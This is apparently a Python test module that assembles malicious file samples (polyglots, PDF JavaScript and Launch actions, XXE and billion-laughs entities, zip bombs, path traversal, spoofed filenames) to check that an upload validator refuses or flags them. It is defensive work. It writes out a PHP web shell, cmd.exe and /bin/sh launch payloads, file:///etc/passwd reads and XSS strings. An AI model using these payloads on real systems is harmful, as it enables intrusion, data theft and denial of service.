"""The hostile corpus: files that try to run, to reach out, to grow, to loop, to be two things, or to hide what they are.

Each case is (name the file is sent under, its bytes, what must come of it): REFUSED, TAKEN, or the things that must be told of it.
"""

from __future__ import annotations

import bz2
import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.evidence.papers import assembled, docx, jpg, pdf, png, relations, stream, xlsx, zeros, zipped

REFUSED, TAKEN = ("refused",), ()
Case = tuple[str, bytes, tuple[str, ...]]
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
_SCRIPT = b"<html><script>alert(document.domain)</script></html>"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


def corpus(address: str) -> dict[str, Case]:
    """Every case by its name; `address` is where whatever is resolved would be seen."""
    families = (_two_things, _pdf_actions(address), _pdf_shapes(), _pdf_heavy(), _office_entities(address), _office_parts(address))
    found = dict(_two_things())
    for family in (*families[1:], _archives(), _pictures(), _names(), _cut()):
        found.update(family)
    return found


def _two_things() -> Iterator[tuple[str, Case]]:
    yield "html before pdf", ("a.pdf", _SCRIPT + pdf(), REFUSED)
    yield "html in the head of a pdf", ("a.pdf", assembled({1: b"<<>>"}, b"%PDF-1.4\n%<html><script>x</script>\n"), REFUSED)
    yield "html after pdf", ("a.pdf", pdf() + _SCRIPT, REFUSED)
    yield "zip after pdf", ("a.pdf", pdf() + zipped({"a.txt": "x"}), REFUSED)
    yield "docx after pdf", ("a.pdf", pdf() + docx(), REFUSED)
    yield "program after pdf", ("a.pdf", pdf() + b"\n\x7fELF\x02" + bytes(64), REFUSED)
    yield "pdf after png", ("a.png", png() + pdf(), REFUSED)
    yield "zip after png", ("a.png", png() + zipped({"a.txt": "x"}), REFUSED)
    yield "html after jpg", ("a.jpg", jpg() + _SCRIPT, REFUSED)
    yield "jar after jpg", ("a.jpg", jpg() + zipped({"META-INF/MANIFEST.MF": "Main-Class: A"}), REFUSED)
    yield "pdf named png", ("a.png", pdf(), REFUSED)
    yield "png named pdf", ("a.pdf", png(), REFUSED)
    yield "docx named xlsx", ("a.xlsx", docx(), REFUSED)
    yield "xlsx named pdf", ("a.pdf", xlsx(), REFUSED)
    yield "html named pdf", ("a.pdf", _SCRIPT, REFUSED)
    yield "svg named png", ("a.png", _SVG, REFUSED)
    yield "php named jpg", ("a.jpg", b"<?php system($_GET['c']); ?>", REFUSED)
    yield "shell script named pdf", ("a.pdf", b"#!/bin/sh\ntouch /tmp/pwned\n", REFUSED)
    yield "program named pdf", ("a.pdf", b"MZ\x90\x00" + bytes(512), REFUSED)
    yield "script in a jpg's comment", ("a.jpg", jpg(comment=_SCRIPT), TAKEN)
    yield "script in a png's text", ("a.png", png(chunks=((b"tEXt", b"Comment\0" + _SCRIPT),)), TAKEN)


def _pdf_actions(address: str) -> Iterator[tuple[str, Case]]:
    url = address.encode()
    yield "javascript when opened", ("a.pdf", pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), ("action", "javascript"))
    names = b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.submitForm\\('%s'\\))>>]>>>>" % url
    yield "javascript by name", ("a.pdf", pdf(catalog=names), ("javascript",))
    yield (
        "javascript in a stream",
        ("a.pdf", pdf(extra={9: stream(b"app.alert(1)")}, catalog=b"/X<</S/JavaScript/JS 9 0 R>>"), ("javascript",)),
    )
    yield "javascript of a page", ("a.pdf", pdf(page=b"/AA<</O<</S/JavaScript/JS(x)>>>>"), ("action", "javascript"))
    yield "launches a program", ("a.pdf", pdf(catalog=b"/OpenAction<</S/Launch/F(/bin/sh)>>"), REFUSED)
    launch = b"/Annots[<</Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>>>]"
    yield "launches behind a link", ("a.pdf", pdf(page=launch), REFUSED)
    chain = b"/OpenAction<</S/GoTo/D[0]/Next<</S/URI/URI(%s)/Next<</S/Launch/F(a)>>>>>>" % url
    yield "launches after other actions", ("a.pdf", pdf(catalog=chain), REFUSED)
    yield "sends a form", ("a.pdf", pdf(catalog=b"/OpenAction<</S/SubmitForm/F(%s)>>" % url), ("action", "form"))
    yield "takes in data", ("a.pdf", pdf(catalog=b"/X<</S/ImportData/F(%s)>>" % url), ("form",))
    yield "opens another file", ("a.pdf", pdf(catalog=b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share)>>"), ("action", "external"))
    yield "plays a film from elsewhere", ("a.pdf", pdf(catalog=b"/X<</S/Rendition/R<</F(%s)>>>>" % url), ("external",))
    files = b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>]>>>>"
    yield "program inside", ("a.pdf", pdf(extra={9: stream(b"MZ", b"/Type/EmbeddedFile")}, catalog=files), ("embedded",))
    yield "rich media", ("a.pdf", pdf(page=b"/Annots[<</Subtype/RichMedia/RichMedia<<>>>>]"), ("embedded",))
    yield "goes to a page when opened", ("a.pdf", pdf(catalog=b"/OpenAction[4 0 R/Fit]"), TAKEN)
    xfa = stream(b'<!DOCTYPE x [<!ENTITY e SYSTEM "%s">]><x>&e;</x>' % url)
    yield "form of xml with an entity", ("a.pdf", pdf(extra={9: xfa}, catalog=b"/AcroForm<</XFA 9 0 R>>"), TAKEN)
    yield "picture from elsewhere", ("a.pdf", pdf(extra={9: stream(b"", b"/F<</FS/URL/F(%s)>>" % url)}, page=b"/X 9 0 R"), TAKEN)


def _pdf_shapes() -> Iterator[tuple[str, Case]]:
    loop = pdf()
    start = int(loop.rpartition(b"startxref\n")[2].split()[0])
    yield "table of places leads to itself", ("a.pdf", loop.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % start), ("any",))
    yield (
        "page tree leads to itself",
        ("a.pdf", assembled({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R 2 0 R]>>"}), REFUSED),
    )
    yield "object leads to itself", ("a.pdf", pdf(extra={9: b"9 0 R"}, catalog=b"/X 9 0 R"), ("any",))
    chain = {number: b"<</A %d 0 R>>" % (number + 1) for number in range(10, 6000)} | {6000: b"<</S/JavaScript>>"}
    yield "six thousand deep", ("a.pdf", pdf(extra=chain, catalog=b"/X 10 0 R"), ("javascript",))
    yield "nested brackets", ("a.pdf", pdf(catalog=b"/X" + b"[" * 100_000 + b"]" * 100_000), REFUSED)
    yield "nested dictionaries", ("a.pdf", pdf(catalog=b"/X" + b"<</A" * 50_000 + b" 1" + b">>" * 50_000), REFUSED)
    yield "count of pages that is a lie", ("a.pdf", pdf().replace(b"/Count 1", b"/Count 999999999999"), ("any",))
    yield "length that is a lie", ("a.pdf", pdf().replace(b"/Length 39", b"/Length 9999999999"), ("any",))
    yield "no pages", ("a.pdf", assembled({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0>>"}), REFUSED)
    yield "no root", ("a.pdf", pdf().replace(b"/Root 1 0 R", b""), REFUSED)
    yield "place beyond the end", ("a.pdf", pdf().replace(b"startxref\n", b"startxref\n9999999"), ("any",))
    yield "place below nothing", ("a.pdf", pdf().replace(b"startxref\n", b"startxref\n-"), ("any",))
    locked = b"/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -4/O(%s)/U(%s)>>/ID[(a)(a)]" % (b"o" * 32, b"u" * 32)
    yield "locked with a password", ("a.pdf", pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R" + locked), REFUSED)
    yield "locked by nobody knows what", ("a.pdf", pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt<</Filter/Nobody>>"), REFUSED)


def _pdf_heavy() -> Iterator[tuple[str, Case]]:
    yield "two thousand pages", ("a.pdf", pdf(2000), TAKEN)
    bomb = zlib.compress(zeros(40), 9)
    yield "content that unpacks to much", ("a.pdf", pdf(extra={9: stream(bomb, b"/Filter/FlateDecode")}, page=b"/Y 9 0 R"), TAKEN)
    packed = stream(bomb, b"/Type/ObjStm/N 5/First 10/Filter/FlateDecode")
    yield "objects packed in a bomb", ("a.pdf", _with_packed(packed), ("any",))
    twice = stream(zlib.compress(bomb, 9), b"/Type/ObjStm/N 5/First 10/Filter[/FlateDecode/FlateDecode]")
    yield "objects packed in a bomb in a bomb", ("a.pdf", _with_packed(twice), ("any",))
    yield "megabytes of spaces", ("a.pdf", b"%PDF-1.7\n" + b" " * 4_000_000, REFUSED)
    yield "megabytes of names", ("a.pdf", pdf(catalog=b"/X[" + b"/A" * 100_000 + b"]"), ("any",))
    yield "noise", ("a.pdf", b"%PDF-1.7\n" + random.Random(7).randbytes(300_000), REFUSED)


def _with_packed(packed: bytes) -> bytes:
    """A PDF whose page tree is said to lie in a packed stream."""
    head = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 7 0 R>>\nendobj\n"
    body = head + b"9 0 obj\n" + packed + b"\nendobj\n"
    rows = b"".join(struct.pack(">BIB", *row) for row in ((0, 0, 0), (1, 9, 0), (2, 9, 0), (1, len(head), 0), (1, len(body), 0)))
    table = stream(rows, b"/Type/XRef/Size 11/W[1 4 1]/Index[0 2 7 1 9 2]/Root 1 0 R")
    return body + b"10 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def _office_entities(address: str) -> Iterator[tuple[str, Case]]:
    reaching = f'<!DOCTYPE r [<!ENTITY e SYSTEM "{address}">]>'
    reading = '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    growing = (
        "<!DOCTYPE r [<!ENTITY a '"
        + "x" * 100
        + "'>"
        + "".join(f"<!ENTITY {chr(98 + at)} '{f'&{chr(97 + at)};' * 10}'>" for at in range(9))
        + "]>"
    )
    outer = f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{address}"> %p;]>'
    yield "docx asks an address", ("a.docx", docx("&e;", head=reaching), REFUSED)
    yield "docx reads a file", ("a.docx", docx("&e;", head=reading), REFUSED)
    yield "docx asks by its declaration", ("a.docx", docx(head=outer), REFUSED)
    yield "docx with a billion laughs", ("a.docx", docx("&j;", head=growing), REFUSED)
    quadratic = "<!DOCTYPE r [<!ENTITY q '" + "x" * 50_000 + "'>]>"
    yield "docx that grows by squares", ("a.docx", docx("&q;" * 5_000, head=quadratic), REFUSED)
    yield "xlsx asks an address", ("a.xlsx", xlsx(head=reaching), REFUSED)
    yield "xlsx with a billion laughs", ("a.xlsx", xlsx(head=growing), REFUSED)
    yield "entity in the list of types", ("a.docx", docx(more={"word/settings.xml": f"{reading}<r>&e;</r>"}), REFUSED)
    yield "entity in the relations", ("a.xlsx", xlsx({"_rels/.rels": f"{reaching}<Relationships/>"}), REFUSED)
    wide = f'<?xml version="1.0" encoding="UTF-16"?>{reading}<r>&e;</r>'.encode("utf-16")
    yield "entity in other letters", ("a.docx", docx(more={"word/settings.xml": wide}), REFUSED)


def _office_parts(address: str) -> Iterator[tuple[str, Case]]:
    yield "macros", ("a.docx", docx(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), REFUSED)
    macro = '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    yield "macros by type", ("a.docx", docx(listed=macro), REFUSED)
    yield "sheet of macros", ("a.xlsx", xlsx({"xl/macrosheets/sheet1.xml": "<x/>"}), REFUSED)
    yield "template from elsewhere", ("a.docx", docx(more={"word/_rels/a.rels": relations(address, "attachedTemplate")}), ("external",))
    yield "picture from elsewhere in docx", ("a.docx", docx(more={"word/_rels/a.rels": relations(address, "image")}), ("external",))
    yield "a link only", ("a.docx", docx(more={"word/_rels/a.rels": relations(address, "hyperlink")}), TAKEN)
    yield "object inside", ("a.docx", docx(more={"word/embeddings/oleObject1.bin": b"MZ"}), ("embedded",))
    yield "eicar inside", ("a.docx", docx(more={"word/media/a.exe": EICAR}), ("embedded",))
    yield "field that runs", ("a.docx", docx('<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/c calc"</w:instrText></w:r>'), ("action",))
    yield (
        "sheet that runs",
        ("a.xlsx", xlsx({"xl/externalLinks/e.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}), ("action",)),
    )
    yield "only a zip", ("a.docx", zipped({"a.txt": "x"}), REFUSED)
    yield "old word file", ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000), REFUSED)
    yield "deep xml", ("a.docx", docx("<w:p>" * 5_000 + "</w:p>" * 5_000), REFUSED)
    yield "broken xml", ("a.docx", docx("<w:p>"), REFUSED)


def _archives() -> Iterator[tuple[str, Case]]:
    yield "bomb in a docx", ("a.docx", docx(more={"word/media/a.xml": zeros(60)}), REFUSED)
    yield "more than may be unpacked", ("a.docx", docx(more={f"word/media/{at}.png": zeros(40) for at in range(3)}), REFUSED)
    yield "bomb that lies of its size", ("a.docx", _lying(docx(more={"word/media/a.png": zeros(30)}), 30_000_000), REFUSED)
    yield "bombs in a zip", ("a.docx", zipped({f"{at}.zip": zipped({"a": zeros(10)}) for at in range(5)}), REFUSED)
    yield "three thousand parts", ("a.docx", docx(more={f"word/media/{at}.png": b"" for at in range(3_000)}), REFUSED)
    yield "climbs out of its folder", ("a.docx", docx(more={"../../etc/cron.d/x": "x"}), REFUSED)
    yield "a part twice", ("a.docx", docx(more={"WORD/document.xml": "<x/>"}), REFUSED)
    yield "gzip named docx", ("a.docx", gzip.compress(zeros(10)), REFUSED)
    yield "bzip named pdf", ("a.pdf", bz2.compress(zeros(10)), REFUSED)
    yield "locked zip", ("a.docx", _locked(docx()), REFUSED)
    yield "eicar named pdf", ("a.pdf", EICAR, REFUSED)


def _lying(body: bytes, size: int) -> bytes:
    """The same archive saying that its largest part is ten bytes long."""
    return body.replace(struct.pack("<I", size), struct.pack("<I", 10))


def _locked(body: bytes) -> bytes:
    made = io.BytesIO(body)
    with zipfile.ZipFile(made, "a") as archive:
        for entry in archive.infolist():
            entry.flag_bits |= 1
        archive.comment = b"x"
    return made.getvalue()


def _pictures() -> Iterator[tuple[str, Case]]:
    yield "picture as wide as a province", ("a.png", png(100_000, 100_000), REFUSED)
    yield "photograph as wide as a province", ("a.jpg", jpg(65_000, 65_000), REFUSED)
    yield "picture of no size", ("a.png", png(0, 0), REFUSED)
    yield "chunk that lies of its length", ("a.png", png().replace(b"\x00\x00\x00\x0dIHDR", b"\x7f\xff\xff\xffIHDR"), REFUSED)
    yield "chunk with a wrong check", ("a.png", png()[:-1] + b"\x00", REFUSED)
    yield "photograph without an end", ("a.jpg", jpg()[:-2], REFUSED)
    yield "segments for ever", ("a.jpg", b"\xff\xd8" + b"\xff\xe0\x00\x02" * 500_000, REFUSED)
    yield "film behind a telephone's photograph", ("a.jpg", jpg() + b"\x00\x00\x00\x18ftypmp42" + bytes(500), ("trailing",))


def _names() -> Iterator[tuple[str, Case]]:
    for given in (
        "ke-hoach.pdf.exe",
        "exe\u202efdp.exe",
        "ke hoach\u202efdp.scr",
        "a.svg",
        "a.html",
        "a.docm",
        "a",
        "a.pdf\r\nX-A: 1.js",
    ):
        yield f"name {given!r}", (given, pdf(), REFUSED)
    for given in (
        "CON.pdf",
        "../../etc/passwd.pdf",
        "C:\\Windows\\a.pdf",
        "a\r\nSet-Cookie: x.pdf",
        "Ke\u0302\u0301 hoa\u0323ch.pdf",
        f"{'kế hoạch ' * 40}.pdf",
        "\u202efdp.Kế hoạch.pdf",
        "a\x00.pdf",
        '"; filename="b.html.pdf',
        "<script>alert(1)</script>.pdf",
        "=HYPERLINK(1).pdf",
        "kế hoạch.PDF",
        ".pdf.",
    ):
        yield f"name {given[:40]!r}", (given, pdf(), TAKEN)


def _cut() -> Iterator[tuple[str, Case]]:
    yield "nothing", ("a.pdf", b"", REFUSED)
    yield "only a head", ("a.pdf", b"%PDF-1.7\n", REFUSED)
    yield "half a pdf", ("a.pdf", pdf(50)[: len(pdf(50)) // 2], ("any",))
    yield "half a docx", ("a.docx", docx()[:300], REFUSED)
    yield "half a png", ("a.png", png()[:30], REFUSED)
    yield "two bytes of a jpg", ("a.jpg", b"\xff\xd8\xff", REFUSED)
